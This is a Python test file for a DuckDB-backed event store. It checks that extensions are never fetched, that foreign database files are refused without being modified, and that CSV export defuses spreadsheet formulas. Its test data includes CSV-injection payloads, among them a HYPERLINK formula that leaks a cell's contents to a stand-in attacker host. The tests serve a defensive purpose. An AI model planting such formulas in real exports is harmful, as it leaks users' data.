"""The store refuses foreign files untouched, never fetches extensions, and exports safe CSV."""

from __future__ import annotations

import csv
import hashlib
import os
import sqlite3
import subprocess
import sys
from pathlib import Path

import duckdb
import pytest

from bilat.errors import StoreError
from bilat.events import EventStore
from bilat.ingest import ingest

from .test_schema import make_event

BILAT = [sys.executable, "-c", "from bilat.cli.main import main; main()"]


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _bilat(args: list[str], home: Path) -> subprocess.CompletedProcess[str]:
    """Run the CLI in a child with its own HOME (where DuckDB would put extensions)."""
    env = dict(os.environ, HOME=str(home), COLUMNS="400")
    env.pop("BILAT_DB", None)
    return subprocess.run([*BILAT, *args], env=env, capture_output=True, text=True, timeout=120)


def test_every_connection_has_extension_autoload_and_autoinstall_off(tmp_path: Path) -> None:
    sql = (
        "SELECT current_setting('autoinstall_known_extensions'), "
        "current_setting('autoload_known_extensions')"
    )
    with EventStore(tmp_path / "s.duckdb") as store:
        assert store.con.execute(sql).fetchall() == [(False, False)]
        assert store.cursor().execute(sql).fetchall() == [(False, False)]
    with EventStore(tmp_path / "s.duckdb", read_only=True) as store:
        assert store.con.execute(sql).fetchall() == [(False, False)]
    with EventStore(":memory:") as store:
        assert store.con.execute(sql).fetchall() == [(False, False)]


def test_a_sqlite_file_is_refused_in_one_line_without_any_download(tmp_path: Path) -> None:
    db = tmp_path / "events.sqlite"
    with sqlite3.connect(db) as lite:
        lite.execute("CREATE TABLE events (id TEXT)")
    before = _digest(db)
    home = tmp_path / "home"
    home.mkdir()
    for args in (["db", "stats"], ["events"], ["ingest", str(db)]):
        done = _bilat([*args, "--db", str(db)], home)
        assert done.returncode == 2, done.stderr
        lines = done.stderr.strip().splitlines()
        assert len(lines) == 1, done.stderr
        assert "is a SQLite database, not a DuckDB event store" in lines[0]
        assert "untouched" in lines[0]
    assert _digest(db) == before
    assert not (home / ".duckdb").exists()  # no extension was fetched or installed


def test_a_duckdb_file_with_a_foreign_events_table_is_left_untouched(tmp_path: Path) -> None:
    db = tmp_path / "other.duckdb"
    con = duckdb.connect(str(db))
    con.execute("CREATE TABLE events (a INTEGER)")
    con.execute("INSERT INTO events VALUES (1), (2)")
    con.close()
    before = _digest(db)
    data = tmp_path / "e.jsonl"
    data.write_text("{}\n")
    home = tmp_path / "home"
    home.mkdir()
    for args in (["db", "stats"], ["ingest", str(data)], ["db", "forget-batch", "1"]):
        done = _bilat([*args, "--db", str(db)], home)
        assert done.returncode == 2, done.stderr
        lines = done.stderr.strip().splitlines()
        assert len(lines) == 1, done.stderr
        assert "holds an events table but no bilat metadata" in lines[0]
    assert _digest(db) == before
    with pytest.raises(StoreError, match="no bilat metadata"):
        EventStore(db)
    assert _digest(db) == before
    con = duckdb.connect(str(db), read_only=True)
    assert con.execute("SELECT count(*) FROM events").fetchall() == [(2,)]
    con.close()


DANGEROUS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tleading tab",
    "\rleading return",
    "'=already quoted",
]


def test_csv_export_neutralises_formulas_and_reads_back_unchanged(tmp_path: Path) -> None:
    texts = [*DANGEROUS, "Pakistan army", "it's = fine"]
    with EventStore(tmp_path / "a.duckdb") as store:
        events = [make_event(id=f"e{i}", actor_text=t) for i, t in enumerate(texts)]
        assert store.insert(events).stored == len(texts)
        out = tmp_path / "events.csv"
        assert store.export(out, "csv") == len(texts)
        original = store.query().set_index("id").actor_text.to_dict()
    with out.open(newline="", encoding="utf-8") as handle:
        cells = {row["id"]: row["actor_text"] for row in csv.DictReader(handle)}
    for i, text in enumerate(texts):
        if text in DANGEROUS:
            assert cells[f"e{i}"] == "'" + text  # a spreadsheet shows it as text
        else:
            assert cells[f"e{i}"] == text
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells.values())
    with EventStore(tmp_path / "b.duckdb") as again:
        report = ingest([out], again)
        assert (report.read, report.stored, report.quarantined) == (len(texts), len(texts), 0)
        assert again.query().set_index("id").actor_text.to_dict() == original
